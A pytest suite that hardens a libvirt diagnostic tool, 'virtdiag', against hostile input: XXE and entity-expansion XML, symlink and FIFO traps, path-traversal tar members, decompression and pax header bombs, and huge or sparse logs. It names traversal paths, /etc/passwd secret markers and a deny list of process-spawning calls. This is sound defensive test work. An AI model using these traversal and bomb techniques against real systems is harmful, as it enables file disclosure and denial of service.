"""Hostile input (issue 7): no crash, no hang, no unbounded memory, nothing read outside --root.

Every case goes through the Python API (engine.scan / engine.explain / the parsers) and through the
command line (typer's CliRunner in-process, and the installed `virtdiag` in a subprocess for the cases
that could hang or need a clean process). Each ends with a one-line reason under `skipped`, the rest
of the scan completed (the base host's known finding is still found), an exit code from the contract
(0 nothing wrong, 1 findings, 2 usage or internal error) and no traceback.

The corpus is tests/hostile/corpus.py (small cases also committed under tests/hostile/fixtures/);
everything large is generated here into temporary directories.
"""

from __future__ import annotations

import json
import os
import re
import resource
import shlex
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from diagnose import engine, xmlchecks
from diagnose.cli import app
from diagnose.host import archive as host_archive
from diagnose.host import base as host_base
from diagnose.host import reader, tree
from diagnose.model import Report

HOSTILE = Path(__file__).resolve().parent / "hostile"
sys.path.insert(0, str(HOSTILE))
import corpus  # noqa: E402

runner = CliRunner()
VIRTDIAG = Path(sys.executable).parent / "virtdiag"
CLI = [str(VIRTDIAG)] if VIRTDIAG.exists() else [sys.executable, "-m", "diagnose"]
ENV = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8", "COLUMNS": "400"}
IS_ROOT = os.geteuid() == 0
SECRETS = ("SECRET-OUTSIDE-THE-ROOT", "SECRET-FROM-A-TRAVERSAL", "root:x:0:0")


# --- helpers -------------------------------------------------------------------------------------


def assert_one_line_skips(report: Report) -> None:
    """Every skipped entry names what and says why, on one printable line."""
    for item in report.skipped:
        assert item.what and item.reason, item
        for text in (item.what, item.reason):
            assert "\n" not in text and "\r" not in text, item
            assert all(c.isprintable() for c in text), item


def reasons(report: Report) -> dict[str, str]:
    return {item.what: item.reason for item in report.skipped}


def ids(report: Report) -> list[str]:
    return [f.id for f in report.findings]


def no_secrets(text: str) -> None:
    for secret in SECRETS:
        assert secret not in text, f"{secret!r} leaked into the output"


def cli(args: list[str], timeout: float = 120, **kwargs: object) -> subprocess.CompletedProcess[str]:
    """The installed command in a fresh process; never a traceback on stderr."""
    result = subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=timeout, env=ENV, check=False,
                            **kwargs)  # type: ignore[call-overload]
    assert "Traceback" not in result.stderr, result.stderr
    return result


def cli_json(args: list[str], timeout: float = 120) -> tuple[int, dict]:
    result = cli([*args, "--format", "json"], timeout=timeout)
    assert result.returncode in (0, 1), (result.returncode, result.stderr)
    no_secrets(result.stdout)
    return result.returncode, json.loads(result.stdout)


def runner_ok(args: list[str], codes: tuple[int, ...] = (0, 1)) -> str:
    """The typer app in-process: an exception would surface here, not be turned into exit 2 by main()."""
    result = runner.invoke(app, args, env={"COLUMNS": "400"})
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code in codes, (result.exit_code, result.output)
    return result.stdout


def runner_error(args: list[str]) -> str:
    """A usage error in-process: exit 2 and one line on stderr, starting "virtdiag: "."""
    result = runner.invoke(app, args, env={"COLUMNS": "400"})
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 2, (result.exit_code, result.output)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("virtdiag: "), result.stderr
    return lines[0]


def scan(root: Path | str, **kwargs: object) -> Report:
    started = time.monotonic()
    report = engine.scan(str(root), **kwargs)  # type: ignore[arg-type]
    assert time.monotonic() - started < 60
    assert_one_line_skips(report)
    return report


@pytest.fixture
def base(tmp_path: Path) -> Path:
    return corpus.write_base(tmp_path / "host")


def test_base_host_has_its_one_finding(base: Path) -> None:
    report = scan(base)
    assert ids(report) == [corpus.BASE_FINDING], ids(report)
    assert report.skipped == []


# --- files: garbage, encodings, line ends, cut files ------------------------------------------------


@pytest.mark.parametrize("name", sorted(corpus.FILE_CONTENTS))
def test_hostile_file_everywhere_scan(name: str, base: Path) -> None:
    """The content planted at every log, config, XML and /proc path: the scan completes, the base finding
    (from the domain XML and /sys) survives, every skip says why on one line."""
    data = corpus.FILE_CONTENTS[name]()
    corpus.plant(base, data)
    report = scan(base)
    assert corpus.BASE_FINDING in ids(report), (ids(report), report.skipped)
    for item in report.skipped:
        assert item.reason in ("binary file, not read",) or "read" in item.reason, item


@pytest.mark.parametrize("name", sorted(corpus.FILE_CONTENTS))
def test_hostile_file_explain(name: str, tmp_path: Path) -> None:
    data = corpus.FILE_CONTENTS[name]()
    started = time.monotonic()
    engine.explain(data.decode("utf-8", errors="replace"))
    assert time.monotonic() - started < 20
    paste = tmp_path / "paste.txt"
    paste.write_bytes(data)
    runner_ok(["explain", "--file", str(paste), "--format", "json"])


@pytest.mark.parametrize("name", sorted(corpus.FILE_CONTENTS))
def test_hostile_file_every_parser(name: str) -> None:
    """Every parser takes the decoded content without an exception."""
    text = host_base.decode(corpus.FILE_CONTENTS[name]())
    corpus.run_every_parser(text)
    xmlchecks.check(xmlchecks.parse(text, "domain-xml", "/x.xml"))


def test_committed_fixtures_are_the_generated_ones() -> None:
    """tests/hostile/fixtures/ is exactly what `corpus.py --fixtures` writes (small cases only)."""
    committed = {str(p.relative_to(corpus.FIXTURES)): p.read_bytes()
                 for p in corpus.FIXTURES.rglob("*") if p.is_file()}
    assert committed == corpus.small_cases()
    assert sum(len(data) for data in committed.values()) < 200 * 1024


@pytest.mark.parametrize("fixture", sorted(str(p.relative_to(corpus.FIXTURES))
                                           for p in corpus.FIXTURES.rglob("*") if p.is_file()))
def test_committed_fixture_through_the_cli(fixture: str, tmp_path: Path) -> None:
    """Each committed case as a paste (explain --file) and as the guest's domain XML and guest log."""
    data = (corpus.FIXTURES / fixture).read_bytes()
    runner_ok(["explain", "--format", "json", "--file", str(corpus.FIXTURES / fixture)])
    host = corpus.write_base(tmp_path / "host")
    corpus.plant(host, data, ("etc/libvirt/qemu/fixture.xml", "var/log/libvirt/qemu/fixture.log"))
    out = runner_ok(["scan", "--root", str(host), "--format", "json"])
    body = json.loads(out)
    assert corpus.BASE_FINDING in [f["id"] for f in body["findings"]]
    no_secrets(out)


def test_crlf_and_cut_line_keep_exact_line_numbers(base: Path) -> None:
    log = base / "var/log/libvirt/qemu/web01.log"
    log.parent.mkdir(parents=True, exist_ok=True)
    log.write_bytes(b"start\r\nerror : Cannot get interface MTU on 'br4': No such device\r\nerror : Cann")
    host = reader.open_host(str(base))
    lines = list(host.iter_lines("/var/log/libvirt/qemu/web01.log"))
    assert lines == [(1, "start"), (2, "error : Cannot get interface MTU on 'br4': No such device"),
                     (3, "error : Cann")]


def test_text_decoding_never_fails() -> None:
    assert host_base.decode("é".encode("utf-16")) == "é"
    assert host_base.decode("<?xml version='1.0'?><a/>".encode("utf-16-le")).startswith("<?xml")
    assert host_base.decode(b"\xef\xbb\xbfplain") == "plain"
    assert host_base.decode("x = 1\n".encode("utf-32")) == "x = 1\n"
    assert host_base.decode('<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>'.encode("latin-1")).endswith(
        "café</a>")
    assert "\ufffd" in host_base.decode(b"\xff\xfe\xfd"[1:] + b"x")
    assert host_base.decode(b'<?xml version="1.0" encoding="no-such"?>\xff').endswith("\ufffd")


def test_wide_encodings_are_text_not_binary(tmp_path: Path) -> None:
    host = corpus.write_base(tmp_path / "host")
    for codec in ("utf-16", "utf-32", "utf-16-le"):
        (host / "etc/hostname").write_bytes("wide-host\n".encode(codec) if codec != "utf-16-le"
                                            else b"<\0?\0x\0m\0l\0?\0>\0")
        assert reader.open_host(str(host)).read_text("/etc/hostname").strip("\ufeff\n") in ("wide-host", "<?xml?>")


def test_no_external_commands() -> None:
    """Probes and sources run no command (nothing that could hang without a time limit): the only
    child processes are logscan's workers over a plain file."""
    import ast

    for path in (Path(__file__).resolve().parent.parent / "diagnose").glob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = [a.name for a in node.names] if isinstance(node, (ast.Import, ast.ImportFrom)) else []
            module = node.module if isinstance(node, ast.ImportFrom) else ""
            assert not {"subprocess", "pty", "pexpect"} & {*names, module or ""}, path.name
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "os":
                assert node.attr not in ("system", "popen", "execv", "execvp", "spawnv", "fork"), path.name


# --- big files: a 50 MB line, a 2 GB sparse log ---------------------------------------------------


def test_fifty_mb_single_line_is_cut_not_loaded(tmp_path: Path) -> None:
    host = corpus.write_base(tmp_path / "host")
    corpus.write_fifty_mb_line(host / "var/log/libvirt/libvirtd.log")
    corpus.write_fifty_mb_line(host / "var/log/libvirt/qemu/web01.log")
    report = scan(host)
    found = {dict(f.captures).get("bridge"): f for f in report.findings}
    assert "virbr9" in found, ids(report)
    lines = {(e.source, e.line) for e in found["virbr9"].evidence}
    assert ("libvirtd-log", 4) in lines or ("qemu-guest-log", 4) in lines, lines
    opened = reader.open_host(str(host))
    cut = [text for number, text in opened.iter_lines("/var/log/libvirt/qemu/web01.log") if number == 3]
    assert len(cut) == 1 and len(cut[0]) <= host_base.MAX_LINE + len(host_base.CUT_MARK)


def test_fifty_mb_paste_through_the_cli(tmp_path: Path) -> None:
    paste = corpus.write_fifty_mb_line(tmp_path / "paste.txt")
    started = time.monotonic()
    result = cli(["explain", "--format", "json", "--file", str(paste)], timeout=120)
    assert result.returncode == 0, result.stderr
    assert time.monotonic() - started < 60
    assert "virbr9" in result.stdout


MEASURE = """
import json, resource, subprocess, sys, time
started = time.monotonic()
done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
print(json.dumps({"rc": done.returncode, "seconds": time.monotonic() - started, "stdout": done.stdout,
                  "stderr": done.stderr, "maxrss_kb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def measured(args: list[str], data_limit: int | None = None, timeout: float = 180) -> dict:
    """Run the CLI under a small parent that reports its children's peak RSS (RUSAGE_CHILDREN, which
    includes worker processes the CLI waited for). `data_limit` caps the children's heap (RLIMIT_DATA),
    so a leak fails fast instead of exhausting the test machine."""

    def limit() -> None:
        if data_limit:
            resource.setrlimit(resource.RLIMIT_DATA, (data_limit, data_limit))

    done = subprocess.run([sys.executable, "-c", MEASURE, *CLI, *args], capture_output=True, text=True,
                          timeout=timeout, env=ENV, check=True, preexec_fn=limit)
    result = json.loads(done.stdout)
    print(f"virtdiag {' '.join(args[:3])}...: {result['seconds']:.1f} s, peak RSS {result['maxrss_kb'] // 1024} MB")
    return result


RSS_LIMIT_MB = 200


@pytest.fixture(scope="module")
def sparse_host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    host = corpus.write_base(tmp_path_factory.mktemp("sparse") / "host")
    log = corpus.write_sparse_log(host / "var/log/libvirt/qemu/web01.log")
    assert log.stat().st_size > corpus.SPARSE_SIZE and log.stat().st_blocks * 512 < 16 * 1024 * 1024
    os.link(log, host / "var/log/messages")  # the same 2 GB hole as the journal: no extra disk
    yield host


def test_two_gb_sparse_log_streams_in_bounded_memory(sparse_host: Path) -> None:
    """The guest log and the journal are each a 2 GB hole between two real records: both records are
    found with exact line numbers, and the process never holds the file."""
    result = measured(["scan", "--root", str(sparse_host), "--format", "json"], data_limit=1 << 30)
    assert result["rc"] in (0, 1), result["stderr"]
    assert "Traceback" not in result["stderr"]
    assert result["maxrss_kb"] < RSS_LIMIT_MB * 1024, result["maxrss_kb"]
    body = json.loads(result["stdout"])
    evidence = {(e["source"], e["line"]) for f in body["findings"] for e in f["evidence"]}
    assert ("qemu-guest-log", 102) in evidence or ("journal", 102) in evidence, evidence


@pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="logscan splits a big libvirtd.log only with two CPUs")
def test_two_gb_sparse_daemon_log_in_bounded_memory(sparse_host: Path, tmp_path: Path) -> None:
    """libvirtd.log above logscan.SPLIT_ABOVE is scanned by two worker processes: still bounded."""
    host = tmp_path / "daemon"
    corpus.write_base(host)
    (host / "var/log/libvirt/libvirtd.log").unlink(missing_ok=True)
    os.link(sparse_host / "var/log/libvirt/qemu/web01.log", host / "var/log/libvirt/libvirtd.log")
    result = measured(["scan", "--root", str(host), "--format", "json"], data_limit=1 << 30)
    assert result["rc"] in (0, 1), result["stderr"][-500:]
    assert result["maxrss_kb"] < RSS_LIMIT_MB * 1024, result["maxrss_kb"]


# --- XML ---------------------------------------------------------------------------------------------


ALL_XML = {**{name: make().encode() for name, make in corpus.XML_TEXT.items()}, **corpus.xml_bytes()}


@pytest.mark.parametrize("name", sorted(ALL_XML))
def test_hostile_xml_parse_and_explain(name: str) -> None:
    text = host_base.decode(ALL_XML[name])
    started = time.monotonic()
    doc = xmlchecks.parse(text, "domain-xml", "/etc/libvirt/qemu/x.xml")
    hits = xmlchecks.check(doc)
    report = engine.explain(text)
    assert time.monotonic() - started < 20
    shown = json.dumps([[h.captures, [e.text for e in h.evidence]] for h in hits]) + str(report.findings)
    assert "lollollollollol" not in shown and "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" not in shown, "an entity was expanded"


@pytest.mark.parametrize("name", sorted(ALL_XML))
def test_hostile_xml_as_domain_definition(name: str, base: Path) -> None:
    (base / "etc/libvirt/qemu/hostile.xml").write_bytes(ALL_XML[name])
    report = scan(base)
    assert corpus.BASE_FINDING in ids(report)


@pytest.mark.parametrize("name", sorted(corpus.xml_bytes()))
def test_domain_xml_in_other_encodings(name: str, base: Path) -> None:
    """ISO-8859-1, UTF-16 (with and without a byte-order mark) and wrong declarations: read as the
    text they are, no false syntax error."""
    (base / "etc/libvirt/qemu/enc.xml").write_bytes(corpus.xml_bytes()[name])
    report = scan(base)
    assert not [f for f in report.findings if f.id == "xml-syntax-error"], report.findings
    doc = xmlchecks.parse(host_base.decode(corpus.xml_bytes()[name]), "domain-xml", "/x.xml")
    assert doc.root is not None, doc.error
    if name != "utf8-declared-but-latin1":  # invalid UTF-8: the bad byte becomes U+FFFD
        assert doc.root.findtext("name") == "café-ü"  # type: ignore[attr-defined]


def test_deep_and_wide_xml_are_bounded() -> None:
    doc = xmlchecks.parse(corpus.deep(100_000), "domain-xml", "/x.xml")
    assert doc.root is None and "depth" in doc.error.lower()
    started = time.monotonic()
    hits = xmlchecks.check(xmlchecks.parse(corpus.many_unknown_elements(20_000), "domain-xml", "/x.xml"))
    assert time.monotonic() - started < 10
    assert hits


@pytest.fixture
def trap() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on 127.0.0.1 that records every connection: nothing may ever connect."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    seen: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    seen.append(conn.recv(4096) or b"(connected)")
                except OSError:
                    seen.append(b"(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join(2)
    server.close()


@pytest.mark.parametrize("name", sorted(corpus.XML_NETWORK_TEXT))
def test_external_entities_are_never_resolved(name: str, trap: tuple[int, list[bytes]], base: Path) -> None:
    """XXE (file:// and http://), an external DTD and XInclude: nothing read, nothing fetched."""
    port, seen = trap
    text = corpus.XML_NETWORK_TEXT[name](port)
    doc = xmlchecks.parse(text, "domain-xml", "/x.xml")
    xmlchecks.check(doc)
    explained = engine.explain(text)
    (base / "etc/libvirt/qemu/xxe.xml").write_text(text)
    (base / "etc/libvirt/qemu/networks").mkdir(parents=True, exist_ok=True)
    (base / "etc/libvirt/qemu/networks/xxe.xml").write_text(text.replace("domain", "network"))
    scanned = scan(base)
    out = runner_ok(["scan", "--root", str(base), "--format", "json"])
    time.sleep(0.3)
    assert seen == [], f"virtdiag connected to the network: {seen}"
    for shown in (out, str(explained.findings), str(scanned.findings), str(doc.root is not None and
                                                                            doc.root.findtext("name"))):
        no_secrets(shown)


# --- trees: links, permissions, FIFOs, devices -------------------------------------------------------


@pytest.fixture
def hostile_tree(tmp_path: Path) -> Iterator[tuple[Path, dict[str, str]]]:
    root = tmp_path / "host"
    made = corpus.write_hostile_tree(root, tmp_path / "outside")
    yield root, made
    for path in (root / "var/log/libvirt/locked", root / "etc/libvirt/qemu/unreadable.xml"):
        path.chmod(0o755)


def test_hostile_tree_api(hostile_tree: tuple[Path, dict[str, str]]) -> None:
    root, made = hostile_tree
    report = scan(root)
    assert corpus.BASE_FINDING in ids(report)
    skipped = reasons(report)
    expect = {
        "/etc/libvirt/qemu/loop.xml": "loop",
        "/etc/libvirt/qemu/ping.xml": "loop",
        "/etc/libvirt/qemu/passwd.xml": "never followed out",
        "/etc/libvirt/qemu/climb.xml": "never followed out",
        "/etc/libvirt/qemu/secret.xml": "never followed out",
        "/etc/libvirt/virtqemud.conf": "never followed out",
        "/var/log/libvirt/qemu/escape.log": "never followed out",
        "/etc/libvirt/qemu/networks": "never followed out",
        "/proc/cmdline": "FIFO",
        "/var/log/messages": "FIFO",
        "/etc/libvirt/network.conf": "FIFO",
        "/var/log/libvirt/qemu/fifo.log": "FIFO",
        "/etc/libvirt/qemu/fifo.xml": "FIFO",
        "/etc/libvirt/qemu/sock.xml": "socket",
    }
    if IS_ROOT:
        expect.update({"/etc/libvirt/libvirt.conf": "device", "/var/log/libvirt/qemu/zero.log": "device"})
    for path, word in expect.items():
        assert word in skipped.get(path, ""), (path, skipped.get(path), skipped)
    no_secrets(json.dumps([s.__dict__ for s in report.skipped]) + str(report.findings))


def test_unreadable_files_as_this_user(hostile_tree: tuple[Path, dict[str, str]]) -> None:
    """Root reads mode-000 files and enters mode-000 directories (and so does virtdiag); anyone else
    gets a one-line "Permission denied" (tests/test_nonroot.py runs this as nobody)."""
    root, _ = hostile_tree
    skipped = reasons(scan(root))
    if IS_ROOT:
        assert "/etc/libvirt/qemu/unreadable.xml" not in skipped
    else:
        assert "Permission denied" in skipped["/etc/libvirt/qemu/unreadable.xml"]


def test_hostile_tree_never_reads_outside_the_root(hostile_tree: tuple[Path, dict[str, str]]) -> None:
    """An audit hook sees every file Python opens during the scan: nothing outside the root (the
    linked-to secret, /etc/passwd), and no FIFO or device is opened."""
    root, made = hostile_tree
    opened = _audit_opens(lambda: engine.scan(str(root)))
    outside = str(root.parent / "outside")
    for path in opened:
        assert not path.startswith(outside), path
        assert path not in ("/etc/passwd", "/etc/shadow"), path
    special = {str(root / name) for name, kind in made.items() if kind in ("FIFO", "character device", "socket")}
    assert not special & set(opened), special & set(opened)


_AUDIT: list[list[str]] = []  # the paths opened while _audit_opens runs (an audit hook cannot be removed,
# so it is installed once, for the whole test process, and records only inside _audit_opens)


def _hook(event: str, args: tuple) -> None:
    if _AUDIT and event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
        _AUDIT[-1].append(os.fsdecode(args[0]))


sys.addaudithook(_hook)


def _audit_opens(work: object) -> list[str]:
    _AUDIT.append([])
    try:
        work()  # type: ignore[operator]
    finally:
        opened = _AUDIT.pop()
    return opened


def test_hostile_tree_cli_never_hangs(hostile_tree: tuple[Path, dict[str, str]]) -> None:
    """FIFOs without a writer would block a reader forever: the scan must finish (in a subprocess with a
    timeout, so a hang fails the test instead of the suite)."""
    root, _ = hostile_tree
    started = time.monotonic()
    code, body = cli_json(["scan", "--root", str(root)], timeout=60)
    assert time.monotonic() - started < 60
    assert corpus.BASE_FINDING in [f["id"] for f in body["findings"]]
    assert any("FIFO" in s["reason"] for s in body["skipped"])
    text = cli(["scan", "--root", str(root), "--lang", "en"], timeout=60)
    assert text.returncode == code and "Skipped" in text.stdout


@pytest.mark.parametrize("special", ["fifo", "/dev/zero", "/dev/null", "socket", "missing"])
def test_root_that_is_no_directory_or_archive(special: str, tmp_path: Path) -> None:
    """--root at a FIFO, a device, a socket or nothing: exit 2 with one line, quickly, never opened."""
    if special == "fifo":
        target = tmp_path / "fifo"
        os.mkfifo(target)
    elif special == "socket":
        target = tmp_path / "sock"
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(str(target))
    elif special == "missing":
        target = tmp_path / "missing"
    else:
        target = Path(special)
    if special == "fifo":  # in a subprocess with a time limit: opening it would hang the suite
        result = cli(["scan", "--root", str(target)], timeout=30)
        assert result.returncode == 2
        assert len(result.stderr.strip().splitlines()) == 1 and result.stderr.startswith("virtdiag: "), result.stderr
    else:
        runner_error(["scan", "--root", str(target)])


def test_error_stays_on_one_line_at_any_width(tmp_path: Path) -> None:
    deep = tmp_path / ("d" * 60) / ("e" * 60)
    deep.mkdir(parents=True)
    os.mkfifo(deep / "fifo")
    env = {key: value for key, value in ENV.items() if key != "COLUMNS"}
    result = subprocess.run([*CLI, "scan", "--root", str(deep / "fifo")], capture_output=True, text=True, timeout=30,
                            env=env, check=False)
    assert result.returncode == 2
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr


def test_many_roots_one_unreadable(base: Path, tmp_path: Path) -> None:
    garbage = tmp_path / "garbage.tar.gz"
    garbage.write_bytes(b"\x1f\x8b" + bytes(range(256)) * 10)
    result = cli(["scan", "--root", str(base), "--root", str(garbage), "--format", "json"], timeout=60)
    assert result.returncode == 1, result.stderr
    assert "skipped" in result.stderr and str(garbage) in result.stderr
    assert corpus.BASE_FINDING in result.stdout


def test_blocking_proc_read_on_the_live_host(monkeypatch: pytest.MonkeyPatch) -> None:
    """A /proc file whose read never returns (a process stuck in the kernel) is given up after the
    time limit; after a few, /proc and /sys reads are not tried at all; the scan still completes."""
    release = threading.Event()

    def blocked_read(fd: int, size: int | None) -> bytes:
        release.wait(60)
        return b""

    monkeypatch.setattr(tree, "_read_fd", blocked_read)
    monkeypatch.setattr(tree, "LIVE_READ_TIMEOUT", 0.2)
    try:
        host = reader.open_host(None)
        started = time.monotonic()
        assert host.read_optional("/proc/cpuinfo") is None
        assert time.monotonic() - started < 5
        assert any("blocked" in why for _, why in host.skipped) or host.blocked == 1  # type: ignore[attr-defined]
        with pytest.raises(host_base.Unreadable, match="blocked"):
            host.read_text("/proc/meminfo")
        started = time.monotonic()
        report = engine.scan(None, connect="qemu:///system?socket=/nonexistent/virtdiag-test", timeout=2)
        assert time.monotonic() - started < 30
        assert_one_line_skips(report)
        assert any("blocked" in s.reason for s in report.skipped), report.skipped
    finally:
        release.set()


# --- archives --------------------------------------------------------------------------------------------


ARCHIVE_EXPECT = {
    "path-traversal": {"../../../../tmp/virtdiag-evil.conf": "unsafe path"},
    "absolute-names": {"/etc/libvirt/libvirtd.conf": "unsafe path", "/tmp/virtdiag-evil.conf": "unsafe path"},
    "symlink-members": {"/etc/libvirt/virtqemud.conf": "never followed out", "/etc/libvirt/qemu/loop.xml": "loop",
                        "/etc/libvirt/qemu/escape.xml": "never followed out"},
    "hardlink-members": {"/etc/libvirt/virtqemud.conf": "hard link", "/etc/libvirt/network.conf": "hard link"},
    "device-members": {"/etc/libvirt/libvirt.conf": "device", "/var/log/messages": "FIFO"},
    "flat-tree": {},
    "duplicate-names": {},
    "weird-names": {},
}


@pytest.mark.parametrize("name", sorted(ARCHIVE_EXPECT))
def test_hostile_archive(name: str, tmp_path: Path) -> None:
    """Members are indexed in place, never extracted: the tarball's directory holds nothing new and
    no traversal target appears on disk."""
    archive = corpus.write_tar(tmp_path / f"{name}.tar.gz", corpus.archive_cases()[name])
    before = sorted(tmp_path.rglob("*"))
    report = scan(archive)
    assert sorted(tmp_path.rglob("*")) == before
    assert not Path("/tmp/virtdiag-evil.conf").exists()
    assert corpus.BASE_FINDING in ids(report), (ids(report), report.skipped)
    skipped = reasons(report)
    for what, word in ARCHIVE_EXPECT[name].items():
        what = what.replace("{archive}", str(archive))
        assert word in skipped.get(what, ""), (what, skipped)
    no_secrets(str(report.findings) + str(report.skipped))
    out = runner_ok(["scan", "--root", str(archive), "--format", "json"])
    no_secrets(out)


def test_an_archive_with_nothing_of_a_host_is_one_line_and_exit_2(tmp_path: Path) -> None:
    """Nothing read is not "nothing wrong": a tarball holding nothing of a host is refused, and the
    command says what it expected, in one line, exit 2."""
    archive = corpus.write_tar(tmp_path / "not-a-sosreport.tar.gz", corpus.archive_cases()["not-a-sosreport"])
    with pytest.raises(host_base.Unreadable, match="no sos_commands/"):
        scan(archive)
    result = CliRunner().invoke(app, ["scan", "--root", str(archive)])
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.startswith(f"virtdiag: {archive}: ") and result.stderr.count("\n") == 1
    assert "expected a sosreport" in result.stderr


def test_archive_links_resolve_inside_the_archive(tmp_path: Path) -> None:
    """A symlink or hard link to another member is followed inside the archive (libvirt's absolute
    autostart links; sosreport's links), never to this machine's files."""
    archive = corpus.write_tar(tmp_path / "links.tar.gz", corpus.archive_cases()["symlink-members"]
                               + corpus.archive_cases()["hardlink-members"][-2:])
    host = reader.open_host(str(archive))
    assert "<name>web01</name>" in host.read_text("/etc/libvirt/qemu/autostart/web01.xml")
    assert "<name>web01</name>" in host.read_text("/etc/libvirt/qemu/copy.xml")
    assert host.find("network-autostart") == [] and host.lexists("/etc/libvirt/qemu/loop.xml")
    with pytest.raises(host_base.Unreadable, match="loop"):
        host.read_text("/etc/libvirt/qemu/loop.xml")


def test_decompression_bomb_stops_at_the_caps(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Three 16 MiB members of zeros: the first is cut at the member cap, the second is over the total
    cap, the third is past the read cap, where reading stops."""
    mib = 1024 * 1024
    monkeypatch.setattr(host_archive, "MAX_MEMBER", 1 * mib)
    monkeypatch.setattr(host_archive, "PACK_OVER", 8 * mib)  # kept as read, so the total cap is reached
    monkeypatch.setattr(host_archive, "MAX_ARCHIVE_TOTAL", 3 * mib // 2)
    monkeypatch.setattr(host_archive, "MAX_ARCHIVE_READ", 40 * mib)
    bomb = corpus.write_bomb(tmp_path / "bomb.tar.gz", 16 * mib, members=3)
    assert bomb.stat().st_size < 1 * mib
    report = scan(bomb)
    skipped = reasons(report)
    assert skipped["/var/log/libvirt/qemu/bomb0.log"] == "only the first 1 MiB read", skipped
    assert "over the 1572864 bytes cap" in skipped["/var/log/libvirt/qemu/bomb1.log"], skipped
    assert "expands past 40 MiB" in skipped[str(bomb)], skipped
    with pytest.raises(host_base.Unreadable, match="reading stopped at the archive size cap"):
        reader.open_host(str(bomb)).read_text("/var/log/libvirt/qemu/bomb2.log")
    assert corpus.BASE_FINDING in ids(report)


def test_big_members_are_kept_compressed(tmp_path: Path) -> None:
    """A member over PACK_OVER is held gzip-compressed and streamed back: same lines, a fraction of the
    memory."""
    data = (corpus.DAEMON_LOG * 40_000).encode()
    archive = corpus.write_tar(tmp_path / "big.tar.gz", corpus.base_members() + [
        corpus._info(f"{corpus.TOP}/var/log/libvirt/qemu/big.log", data)])
    host = reader.open_host(str(archive))
    assert isinstance(host, host_archive.ArchiveHost) and "var/log/libvirt/qemu/big.log" in host.packed
    assert len(host.contents["var/log/libvirt/qemu/big.log"]) < len(data) // 10
    lines = list(host.iter_lines("/var/log/libvirt/qemu/big.log"))
    assert len(lines) == 80_000 and lines[-1] == (80_000, corpus.DAEMON_LOG.splitlines()[-1])


def test_decompression_bomb_default_caps_bounded_memory(tmp_path: Path) -> None:
    """A 1 GiB member of zeros (a 4 MB tarball) at the shipped caps: read to the member cap, kept
    compressed, memory bounded."""
    bomb = corpus.write_bomb(tmp_path / "bomb.tar.gz", 1024 * 1024 * 1024)
    result = measured(["scan", "--root", str(bomb), "--format", "json"], data_limit=1 << 30)
    assert result["rc"] in (0, 1), result["stderr"]
    assert result["maxrss_kb"] < RSS_LIMIT_MB * 1024
    assert "only the first 64 MiB read" in result["stdout"]


def test_too_many_members(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(host_archive, "MAX_ARCHIVE_MEMBERS", 500)
    archive = corpus.write_many_members(tmp_path / "many.tar.gz", 2000)
    report = scan(archive)
    assert any("after 500 members" in s.reason for s in report.skipped)
    assert corpus.BASE_FINDING in ids(report)


def test_pax_header_bomb_is_refused(tmp_path: Path) -> None:
    """A pax header claiming 64 MiB would be loaded whole by tarfile: refused at the 1 MiB header cap."""
    archive = corpus.write_pax_bomb(tmp_path / "pax.tar.gz")
    started = time.monotonic()
    report = scan(archive)
    assert time.monotonic() - started < 10
    assert any("extended header" in s.reason for s in report.skipped), report.skipped
    assert corpus.BASE_FINDING in ids(report)


BROKEN_READ_BEFORE = {"truncated.tar.gz": "truncated", "truncated.tar.xz": "truncated", "truncated.tar": "truncated"}
BROKEN_UNREADABLE = ("truncated-header.tar.gz", "garbage.tar.gz", "empty.tar", "text.tar")


@pytest.fixture(scope="module")
def broken(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return corpus.write_broken_archives(tmp_path_factory.mktemp("broken"))


@pytest.mark.parametrize("name", sorted(BROKEN_READ_BEFORE))
def test_truncated_archive_reads_what_came_before(name: str, broken: dict[str, Path]) -> None:
    report = scan(broken[name])
    assert any(BROKEN_READ_BEFORE[name] in s.reason for s in report.skipped), report.skipped
    runner_ok(["scan", "--root", str(broken[name]), "--format", "json"])


@pytest.mark.parametrize("name", BROKEN_UNREADABLE)
def test_unreadable_archive_exits_2_with_one_line(name: str, broken: dict[str, Path]) -> None:
    with pytest.raises(host_base.Unreadable, match="not a readable tar archive"):
        engine.scan(str(broken[name]))
    assert "not a readable tar archive" in runner_error(["scan", "--root", str(broken[name])])


def test_corrupt_archive(broken: dict[str, Path]) -> None:
    """Flipped bytes all through: either nothing is readable (exit 2) or what came before is kept."""
    try:
        report = scan(broken["corrupt.tar.gz"])
    except host_base.Unreadable as exc:
        assert "not a readable tar archive" in str(exc)
    else:
        assert report.skipped
